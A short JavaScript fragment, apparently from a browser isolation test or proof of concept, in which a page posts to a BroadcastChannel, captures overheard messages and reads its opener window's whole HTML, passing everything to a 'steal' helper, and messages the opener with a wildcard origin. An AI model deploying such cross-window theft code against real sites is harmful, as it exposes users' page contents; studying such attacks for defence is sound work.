// The page of the other system, broken into as well: it gives away all it has.
const channel = new BroadcastChannel("county");
channel.onmessage = (event) => steal("overheard", event.data);
addEventListener("load", async () => {
  if (!opener) return;
  channel.postMessage("the victim is here");
  await attempt(() => steal("opener", opener.document.body.outerHTML));
  opener.postMessage({ theirs: await dummyOf() }, "*");
});
